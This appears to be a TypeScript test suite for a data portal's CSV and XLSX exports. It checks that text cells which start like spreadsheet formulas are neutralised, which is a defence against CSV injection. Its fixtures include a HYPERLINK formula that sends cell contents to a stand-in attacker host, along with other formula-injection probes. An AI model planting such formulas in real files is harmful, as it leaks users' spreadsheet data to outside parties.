// Issue 13, class 10: spreadsheet formulas. The CSV for Excel (`decimal=comma`, the Export tab's "CSV voor Excel")
// neutralises text cells a spreadsheet would run as a formula, as OWASP describes (a leading ', the cell quoted);
// numbers stay numbers; the API's plain CSV stays byte-exact (it is data); XLSX writes such a text as a string cell.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { parseMetadataInput } from '../../src/catalog/metadata.ts';
import { startServer, type ServerHarness } from '../helpers/server.ts';

let s: ServerHarness;

const hyperlink = '=HYPERLINK("https://kwaad.example/?d="&A1;"Klik hier")';
const texts = [hyperlink, '+31 20 123', '-2+3', '@SUM(A1:A9)', '\tverborgen', 'gewone tekst'];

before(async () => {
  s = await startServer();
  const quoted = (v: string) => `"${v.replace(/"/g, '""')}"`;
  const lines = ['nr,tekst,bedrag', ...texts.map((t, i) => `${i},${quoted(t)},${i === 2 ? '-12.5' : `${i}.5`}`)];
  const path = join(s.env.dataDir, 'formules.csv');
  writeFileSync(path, `${lines.join('\n')}\n`);
  const input = parseMetadataInput({ title: { nl: 'Formules' }, fields: [{ name: 'tekst', label: '=Tekst' }] });
  await s.portal.catalog.importDataset({ datasetId: 'formules', path, input, actor: 'test' });
});
after(() => s.close());

const exportUrl = (format: string, query: Record<string, string>) => `/api/explore/v2.1/catalog/datasets/formules/exports/${format}?${new URLSearchParams({ order_by: 'nr', ...query })}`;

test('the CSV for Excel neutralises text cells that start like a formula, and keeps negative numbers as numbers', async () => {
  const response = await s.get(exportUrl('csv', { delimiter: ';', decimal: 'comma', with_bom: 'false', use_labels: 'true' }));
  assert.equal(response.status, 200);
  const lines = (await response.text()).split('\n');
  // The header's label is the publisher's text: neutralised too.
  assert.equal(lines[0], `nr;"'=Tekst";bedrag`);
  assert.equal(lines[1], `0;"'=HYPERLINK(""https://kwaad.example/?d=""&A1;""Klik hier"")";0,5`);
  assert.equal(lines[2], `1;"'+31 20 123";1,5`);
  assert.equal(lines[3], `2;"'-2+3";-12,5`);
  assert.equal(lines[4], `3;"'@SUM(A1:A9)";3,5`);
  assert.equal(lines[5], `4;"'\tverborgen";4,5`);
  assert.equal(lines[6], '5;gewone tekst;5,5');
});

test('quote_all keeps one pair of quotes around a neutralised cell', async () => {
  const response = await s.get(exportUrl('csv', { delimiter: ';', decimal: 'comma', with_bom: 'false', quote_all: 'true', where: 'nr = 3' }));
  const lines = (await response.text()).split('\n');
  assert.equal(lines[1], `"3";"'@SUM(A1:A9)";"3,5"`);
});

test("the API's CSV stays byte-exact: the values as they are, quoted only where CSV needs it", async () => {
  const response = await s.get(exportUrl('csv', { with_bom: 'false', where: 'nr <= 3' }));
  const lines = (await response.text()).split('\n');
  assert.equal(lines[0], 'nr;tekst;bedrag');
  assert.equal(lines[1], `0;"=HYPERLINK(""https://kwaad.example/?d=""&A1;""Klik hier"")";0.5`);
  assert.equal(lines[2], '1;+31 20 123;1.5');
  assert.equal(lines[3], '2;-2+3;-12.5');
  assert.equal(lines[4], '3;@SUM(A1:A9);3.5');
});

test('XLSX writes a formula-like text as a string cell, never as a formula', async () => {
  const response = await s.get(exportUrl('xlsx', {}));
  assert.equal(response.status, 200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(await response.arrayBuffer()) as unknown as ArrayBuffer);
  const cell = workbook.worksheets[0].getRow(2).getCell(2);
  assert.equal(cell.type, ExcelJS.ValueType.String);
  assert.equal(cell.formula, undefined);
  assert.equal(cell.value, hyperlink);
  assert.equal(workbook.worksheets[0].getRow(4).getCell(3).value, -12.5);
});
